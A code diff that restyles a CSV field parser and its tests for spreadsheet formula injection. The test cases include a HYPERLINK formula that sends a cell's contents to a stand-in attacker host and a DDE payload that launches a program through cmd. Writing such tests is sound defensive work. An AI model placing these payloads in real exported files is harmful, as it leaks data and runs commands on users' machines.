@@ -18,8 +18,7 @@ function spreadsheetFields(csv: string, separator: string): string[] {
         if (csv[i] === '"' && csv[i + 1] === '"') {
           value += '"';
           i += 2;
-        }
-        else if (csv[i] === '"') {
+        } else if (csv[i] === '"') {
           i++;
           break;
         } else value += csv[i++];
@@ -39,7 +38,7 @@ describe('CSV cells a spreadsheet could run', () => {
   it.for([
     ['x;=1+1', ';'],
     ['x;=HYPERLINK("http://evil.example/?"&A1)', ';'],
-    ['note\t+1+cmd|\' /C calc\'!A0', '\t'],
+    ["note\t+1+cmd|' /C calc'!A0", '\t'],
     ['a; -2+3', ';'],
     ['a;"=1+1"', ';'],
     ['a,@SUM(1)', ';'],
